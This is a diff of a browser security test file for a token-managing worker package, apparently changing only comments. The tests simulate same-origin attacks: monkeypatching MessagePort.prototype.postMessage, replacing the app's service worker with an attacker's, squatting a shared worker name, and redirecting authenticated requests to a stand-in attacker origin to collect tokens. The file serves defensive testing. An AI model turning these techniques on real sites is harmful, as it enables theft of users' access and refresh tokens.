@@ -1,5 +1,5 @@
-// Scripts of the same origin that speak to the worker in which the token lives: on the page's own port, on another, from another tab, and
-// with a worker of their own. What the page's home has not is mounted in the others alone.
+// Scripts of the same origin that speak to the worker that keeps the token: on the page's own port, on another port,
+// from another tab, and with their own worker. These attacks are mounted only in homes that have the worker.
 
 import { ACCESS, REFRESH } from '../support/rows.mjs'
 import { SERVICE_WORKER } from './origin.mjs'
@@ -13,7 +13,7 @@ const API = { apis: ['/api'] }
 
 const alone = (name, seeks, inherent, mount, more) => ({ name, seeks, inherent, homes: HOMES, mount, ...more })
 
-/** Keeps the ports that the page speaks on, the worker itself, and the words that it began with. Runs in the page, before the package. */
+/** Records the page's ports, the worker and the first message. Runs in the page, before the package. */
 function tap() {
   globalThis.tapped = { ports: new Set(), workers: [] }
   const { postMessage } = MessagePort.prototype
@@ -32,7 +32,10 @@ function tap() {
   }
 }
 
-/** Sends these messages on the tapped port, keeps all that is heard there, and is done when each that has a number is answered. Runs in the page. */
+/**
+ * Sends these messages on the tapped port, and records all answers, until every message with an id is answered. Runs in
+ * the page.
+ */
 async function say(messages) {
   const [port] = tapped.ports
   const waiting = new Set(messages.flatMap(({ id }) => id ?? []))
@@ -47,16 +50,16 @@ async function say(messages) {
   await answered
 }
 
-/** A tab with a tapped port, in which somebody has signed in. */
+/** A signed-in tab with a tapped port. */
 const tapped = (scene, options) => scene.signedIn({ options: { ...API, ...options }, before: tap })
 
-/** What has been sent elsewhere, or to what is not the API. */
+/** What was sent to another server, or outside of the API. */
 const lured = ({ server, elsewhere }) => [
   elsewhere.loot(),
   server.seen().filter(({ path }) => !/^\/(api|auth)(\/|$)/.test(path)).map(({ headers }) => [headers.authorization, headers['x-token']]),
 ]
 
-/** Messages that were never written for the page: in each kind that there is, with members that a reader may trip over. */
+/** Malformed messages of every kind, with members that a careless reader may trip over. */
 const ODD = [
   undefined, null, 0, '', 'token?', [], {}, { kind: 'hello' }, { kind: '__proto__' }, { kind: 'constructor' },
   ...['fetch', 'call', 'body', 'abort', 'pull', 'cancel', 'marks', 'shown', 'facts', 'welcome', 'state', 'token'].flatMap((kind) => [
@@ -89,7 +92,7 @@ export default [
       for (const message of [{ ...tapped.hello, kind: 'hello', options }, { kind: 'facts', facts, options }, { kind: 'welcome', apis: [[far, '/']] }]) port.postMessage(message)
       port.addEventListener('message', ({ data }) => attacker.keep(data))
       await auth.fetch('/api/me')
-      // The page may believe it: it is the worker that sends.
+      // The page may believe this message, but the worker sends the requests.
       port.dispatchEvent(new MessageEvent('message', { data: { kind: 'welcome', apis: [[far, '/']], cookies: [] } }))
       await auth.fetch(`${far}/x`).catch(() => {})
     }, scene.elsewhere.origin)
@@ -101,9 +104,9 @@ export default [
     const urls = [`${scene.elsewhere.origin}/x`, `${scene.server.origin}/outside`, '/outside', `${scene.server.origin}/api/../outside`, `http://127.0.0.1:${scene.elsewhere.port}/api/x`, [`${scene.elsewhere.origin}/x`]]
     const inits = [{ headers: [] }, { headers: [], mode: 'no-cors' }, { method: 'POST', headers: [['X-One', '1']] }]
     let id = 1e6
-    // In rounds: a login or a logout would take back what has not been sent by then.
+    // In rounds, because a login or a logout would cancel calls that are not yet sent.
     for (const method of ['fetch', 'exchange', 'login', 'logout']) {
-      // An exchange may go to all of the server that refreshes: see there.
+      // An exchange may go to every path of the refresh endpoint's server: see the attack in origin.mjs.
       const asked = urls.filter((url) => method !== 'exchange' || !url.includes(scene.server.origin))
       await page.evaluate(say, asked.flatMap((url) => inits.map((init) => (
         method === 'fetch' ? { kind: 'fetch', id: ++id, request: { url, init } } : { kind: 'call', id: ++id, method, request: { url, init: { method: 'POST', ...init } } }
@@ -157,7 +160,7 @@ export default [
     return scene.tab({ options: { ...API, ...MEMORY } }).then(() => false, () => true)
   }, { homes: SHARED, server: { isInMemory: true } }),
   ...['before', 'after'].map((when) => alone('`MessagePort.prototype.postMessage` adds to the options', ACCESS, when === 'before' ? WORKERS : [], async (scene) => {
-    // Where the worker has its options already, the app does not start.
+    // If the worker already has other options, the app does not start.
     const page = await scene.tab({ options: API, argument: scene.elsewhere.origin, [when]: (far) => {
       const { postMessage } = MessagePort.prototype
       MessagePort.prototype.postMessage = function (message, ...more) {
@@ -182,7 +185,7 @@ export default [
         told.postMessage(String(data))
         globalThis.postMessage?.('')
       })
-      // What comes before the script is there is not lost.
+      // Messages that arrive before the script has loaded are not lost.
       const early = []
       const listen = (event) => early.push(event)
       for (const type of ['message', 'connect']) addEventListener(type, listen)
@@ -214,7 +217,7 @@ export default [
         return register.call(this, url, ...more)
       }
       attacker.spy(ServiceWorkerContainer.prototype, 'getRegistration')
-      // The page is shown what it expects, and says what the worker was told.
+      // The page sees the script URL that it expects, and its `hello` has the options that the worker was given.
       const { postMessage } = MessagePort.prototype
       MessagePort.prototype.postMessage = function (message, ...more) {
         return postMessage.call(this, message.options ? { ...message, options: { ...message.options, apis: [far] } } : message, ...more)
@@ -289,7 +292,7 @@ export default [
   }, { server: { isInMemory: true } }),
 ]
 
-/** Puts a service worker of the attacker's in the place of the app's. */
+/** Replaces the app's service worker by the attacker's. */
 async function replace(scene, page) {
   scene.server.routes['/attacker-sw.js'] = () => ({ type: 'text/javascript', body: SERVICE_WORKER })
   await page.evaluate(async () => {
@@ -300,7 +303,7 @@ async function replace(scene, page) {
   })
 }
 
-/** What that has seen. */
+/** What the attacker's service worker has seen. */
 function loot(page) {
   return page.evaluate(async () => {
     const { active } = await navigator.serviceWorker.ready
@@ -312,7 +315,7 @@ function loot(page) {
   })
 }
 
-/** A manager of the attacker's, in another tab, whose token goes to him. */
+/** The attacker's manager in another tab, which sends its token to the attacker. */
 async function ownWorker(scene, options) {
   const { module, options: home } = scene.home
   const other = await scene.blank()
@@ -325,8 +328,8 @@ async function ownWorker(scene, options) {
 }
 
 /**
- * A tab of the attacker's that has started a shared worker under the name that the app's will ask for, has given it options of its own
- * and called them the app's. It can `send` there.
+ * A tab of the attacker that has started a shared worker under the name that the app will use, with the attacker's
+ * options, which it claims to be the app's. It can `send` messages to the worker.
  */
 async function squats(scene) {
   const told = await scene.blank()
